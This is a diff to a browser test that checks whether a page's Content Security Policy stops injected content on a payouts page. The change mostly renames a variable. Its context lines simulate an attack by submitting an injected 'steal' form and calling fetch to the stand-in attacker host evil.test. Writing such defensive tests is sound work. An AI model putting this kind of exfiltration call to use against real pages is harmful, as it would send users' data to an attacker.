@@ -306,19 +306,23 @@ test('what a stranger managed to write into a page does not run and reaches nobo
     });
   });
   await page.addInitScript(() => {
-    const heard: string[] = [];
-    Object.assign(window, { heard });
-    addEventListener('securitypolicyviolation', (event) => heard.push(event.effectiveDirective));
+    const violations: string[] = [];
+    Object.assign(window, { violations });
+    addEventListener('securitypolicyviolation', (event) =>
+      violations.push(event.effectiveDirective),
+    );
   });
   await page.goto('/payouts');
   await page.evaluate(async () => {
     (document.getElementById('steal') as HTMLFormElement).submit();
     await fetch('https://evil.test/c').catch(() => undefined);
   });
-  const heard = () =>
-    page.evaluate(() => [...new Set((window as unknown as { heard: string[] }).heard)].sort());
+  const violations = () =>
+    page.evaluate(() =>
+      [...new Set((window as unknown as { violations: string[] }).violations)].sort(),
+    );
   await expect
-    .poll(heard)
+    .poll(violations)
     .toEqual([
       'base-uri',
       'connect-src',
